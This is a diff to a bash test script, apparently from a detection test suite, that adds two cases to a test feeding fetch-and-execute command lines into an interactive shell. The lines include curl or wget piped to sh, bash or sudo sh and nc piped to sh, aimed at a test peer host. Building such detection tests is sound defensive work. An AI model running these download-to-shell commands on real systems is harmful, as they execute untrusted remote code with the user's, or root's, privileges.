@@ -1,7 +1,7 @@
 #!/bin/bash
-# desc: a script from another host piped straight into a shell, typed into an interactive shell: curl | sh, wget -O- | bash, nc | sh, curl | python3
+# desc: a script from another host piped straight into a shell, typed into an interactive shell: curl | sh, wget -O- | bash, nc | sh, curl | python3, and through a program that starts the shell as its child (curl | sudo sh, wget -O- | timeout 10 bash)
 # mitre: T1059.004, T1105, T1071
-# expect: network_tool_piped_to_shell*4
+# expect: network_tool_piped_to_shell*6
 source "$ATTACK_LIB"
 source "$(dirname "$ATTACK_LIB")/netns.sh"
 
@@ -14,5 +14,6 @@ listener=$!
 wait_listen "$PEER" 9000
 u=http://$PEER:8080
 printf '%s\n' "curl -fsSL $u/i.sh | sh" "wget -qO- $u/i.sh | bash" "nc -d $PEER 9000 | sh" \
-	"curl -s $u/i.py | python3" exit | bash --norc -i >/dev/null 2>&1 || true
+	"curl -s $u/i.py | python3" "curl -fsSL $u/i.sh | sudo sh" \
+	"wget -qO- $u/i.sh | timeout 10 bash" exit | bash --norc -i >/dev/null 2>&1 || true
 wait "$listener" || true
